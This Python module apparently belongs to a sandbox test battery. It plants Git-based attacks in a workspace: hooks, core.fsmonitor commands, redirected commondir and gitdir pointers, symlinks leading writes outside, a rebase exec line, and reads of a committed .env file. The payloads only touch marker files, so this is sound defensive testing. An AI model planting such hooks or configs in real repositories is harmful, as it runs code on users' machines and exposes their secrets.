"""Attacks that make the user's own Git run code or write elsewhere. Each has its own repository, in which the host then
runs `git status` and `git commit`, in the workspace and in its folder `pkg`."""

import os
import shutil

from battery import at, call, probe, run, write

GIT = ['git', '-c', 'user.name=a', '-c', 'user.email=a@a', '-c', 'safe.directory=*', '-c', 'init.defaultBranch=main']


def inside(name):
    return at['workspace'] + '/' + name


def touch(mark):
    return 'touch %s/%s; false' % (at['out'], mark)


def settings(mark, more=''):
    return '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "%s"\n%s' % (touch(mark), more)


def repository(folder, mark, more=''):
    """Creates a folder that Git treats as a repository, with settings that run a program."""
    for name in ('objects', 'refs/heads'):
        os.makedirs(folder + '/' + name, exist_ok=True)
    write(folder + '/HEAD', 'ref: refs/heads/main\n')
    write(folder + '/config', settings(mark, more))


def hook(path, mark):
    write(path, '#!/bin/sh\ntouch %s/%s\n' % (at['out'], mark))
    os.chmod(path, 0o755)


def plant(name, sentence, *, further=True):
    """Declares an attack that works if the host's Git runs code that creates a file with the attack's name."""
    return probe('git.' + name, 'file=out/git-' + name, sentence, further=further, alone=True)


@plant('hook', 'A hook', further=False)
def _():
    hook(inside('.git/hooks/pre-commit'), 'git-hook')


@plant('hook-renamed', 'Hooks in a folder that takes the place of the old one')
def _():
    os.makedirs(inside('hooks'))
    hook(inside('hooks/pre-commit'), 'git-hook-renamed')
    shutil.rmtree(inside('.git/hooks'))
    os.rename(inside('hooks'), inside('.git/hooks'))


@plant('hook-exchanged', 'Hooks in a folder that is exchanged with the old one')
def _():
    os.makedirs(inside('hooks'))
    hook(inside('hooks/pre-commit'), 'git-hook-exchanged')
    call('renameat2', -100, inside('hooks').encode(), -100, inside('.git/hooks').encode(), 2)


@plant('hook-case', 'A hook by .GIT in other letters', further=False)
def _():
    hook(inside('.GIT/hooks/pre-commit'), 'git-hook-case')


@plant('hook-link', 'A hook by a symbolic link to .git', further=False)
def _():
    os.symlink('.git', inside('link-to-git'))
    hook('/proc/self/root' + inside('link-to-git/hooks/pre-commit'), 'git-hook-link')


@plant('config', 'The configuration', further=False)
def _():
    write(inside('.git/config'), settings('git-config'), 'a')


@plant('config-command', 'The configuration, by git config')
def _():
    run([*GIT, '-C', at['workspace'], 'config', 'core.fsmonitor', touch('git-config-command')])


@plant('config-renamed', 'The configuration, by a rename over it')
def _():
    write(inside('config'), settings('git-config-renamed'))
    os.rename(inside('config'), inside('.git/config'))


@plant('config-removed', 'The configuration, removed and written again')
def _():
    os.unlink(inside('.git/config'))
    write(inside('.git/config'), settings('git-config-removed'))


@plant('config-linked', 'The configuration, by a new hard link to it')
def _():
    os.link(inside('.git/config'), inside('linked'))
    write(inside('linked'), settings('git-config-linked'), 'a')


@plant('config-worktree', 'The configuration of the worktree', further=False)
def _():
    write(inside('.git/config.worktree'), settings('git-config-worktree'))


@plant('commondir', 'Another common folder', further=False)
def _():
    repository(inside('.other'), 'git-commondir')
    write(inside('.git/commondir'), '../.other\n')


@plant('renamed', 'Another .git in place of the old one', further=False)
def _():
    os.rename(inside('.git'), inside('.git-old'))
    shutil.copytree(inside('.git-old'), inside('.git'))
    write(inside('.git/config'), settings('git-renamed'))


@plant('exchanged', 'Another .git exchanged with the old one')
def _():
    shutil.copytree(inside('.git'), inside('.git-new'))
    write(inside('.git-new/config'), settings('git-exchanged'))
    call('renameat2', -100, inside('.git-new').encode(), -100, inside('.git').encode(), 2)


@plant('pointer', 'A file that points elsewhere in place of .git')
def _():
    repository(inside('.other'), 'git-pointer')
    os.rename(inside('.git'), inside('.git-old'))
    write(inside('.git'), 'gitdir: .other\n')


@plant('module-config', 'The configuration of a submodule', further=False)
def _():
    write(inside('.git/modules/sub/config'), settings('git-module-config', '\tworktree = ../../../sub\n'))


@plant('module-renamed', 'Folders of submodules, renamed')
def _():
    os.rename(inside('.git/modules'), inside('.git/modules-old'))
    shutil.copytree(inside('.git/modules-old'), inside('.git/modules'))
    write(inside('.git/modules/sub/config'), settings('git-module-renamed', '\tworktree = ../../../sub\n'))


@plant('module-hook', 'A hook of a submodule')
def _():
    os.makedirs(inside('.git/modules/sub/hooks'), exist_ok=True)
    hook(inside('.git/modules/sub/hooks/pre-commit'), 'git-module-hook')


@plant('module-pointer', 'The pointer of a submodule', further=False)
def _():
    repository(inside('.other'), 'git-module-pointer')
    os.unlink(inside('sub/.git'))
    write(inside('sub/.git'), 'gitdir: ../.other\n')


@plant('module-replaced', 'A submodule renamed and made again')
def _():
    os.rename(inside('sub'), inside('sub-old'))
    os.makedirs(inside('sub'))
    repository(inside('sub/.git'), 'git-module-replaced')


@plant('module-commondir', 'Another common folder of a submodule')
def _():
    repository(inside('.other'), 'git-module-commondir')
    write(inside('.git/modules/sub/commondir'), '../../../.other\n')


@plant('worktree-commondir', 'The common folder of a linked worktree', further=False)
def _():
    repository(inside('.other'), 'git-worktree-commondir')
    write(inside('.git/worktrees/linked/commondir'), inside('.other') + '\n')


@plant('worktree-config', 'The configuration of a linked worktree')
def _():
    write(inside('.git/worktrees/linked/config.worktree'), settings('git-worktree-config'))


@plant('nested-in-index', 'A new repository that is added to the index', further=False)
def _():
    os.makedirs(inside('nested'))
    nested = [*GIT, '-C', inside('nested')]
    run([*nested, 'init', '-q'])
    run([*nested, 'commit', '-q', '--allow-empty', '-m', 'a'])
    run([*nested, 'config', 'core.fsmonitor', touch('git-nested-in-index')])
    run([*GIT, '-c', 'core.fsmonitor=false', '-C', at['workspace'], 'add', 'nested'])


@plant('nested-bare', 'A folder that Git takes for a bare repository', further=True)
def _():
    repository(inside('pkg'), 'git-nested-bare', '\tworktree = .\n')


def lead_out(name, mark):
    """Replaces a file of Git with a link to a file outside, which Git then writes to."""
    if os.path.lexists(inside('.git/' + name)):
        os.unlink(inside('.git/' + name))
    os.symlink(at['out'] + '/' + mark, inside('.git/' + name))


@probe('git.message-link', 'file=out/git-message=planted-@', 'A text of its choice, which Git writes to a file outside', further=True, alone=True)
def _():
    lead_out('COMMIT_EDITMSG', 'git-message')
    write(inside('.git/MERGE_MSG'), 'planted-' + at['token'])


@plant('log-link', 'A log of Git that is a file outside')
def _():
    lead_out('logs/HEAD', 'git-log-link')


@plant('index-link', 'An index of Git that is a file outside')
def _():
    lead_out('index', 'git-index-link')


@probe('git.history', 'nonce', 'What was committed of a hidden file', alone=True)
def _():
    return run([*GIT, '-C', at['workspace'], 'show', 'HEAD~1:.env'])


@probe('git.history-by-alternates', 'nonce', 'Objects of another project', further=True, alone=True)
def _():
    # Set in the environment: the repository itself is not changed.
    env = dict(os.environ, GIT_ALTERNATE_OBJECT_DIRECTORIES=at['home'] + '/other/.git/objects')
    return run([*GIT, '-C', at['workspace'], 'cat-file', '-p', at['other_object']], env=env)


@probe('git.rebase', 'file=WS/.git/rebase-merge/git-rebase-todo=exec', 'An unfinished rebase that runs a program', alone=True)
def _():
    os.makedirs(inside('.git/rebase-merge'))
    write(inside('.git/rebase-merge/git-rebase-todo'), 'exec touch %s/git-rebase\n' % at['out'])


@probe('git.late-config', 'file=ws/.git/config=late-@', 'The configuration that the host replaced meanwhile')
def _():
    write(inside('.git/config'), '# late-%s\n' % at['token'], 'a')
